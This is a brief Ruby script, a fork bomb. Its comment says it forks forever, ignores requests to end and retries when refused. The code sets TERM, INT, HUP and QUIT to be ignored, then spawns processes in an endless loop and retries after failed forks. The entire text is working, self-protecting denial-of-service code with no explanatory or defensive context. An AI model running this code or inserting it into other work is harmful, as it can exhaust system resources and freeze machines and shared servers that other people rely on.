# Forks for ever, ignores whatever asks it to end, and tries again where it is refused.
%w[TERM INT HUP QUIT].each { |signal| trap(signal, "IGNORE") }
loop do
  fork
rescue SystemCallError
  sleep 0.01
end
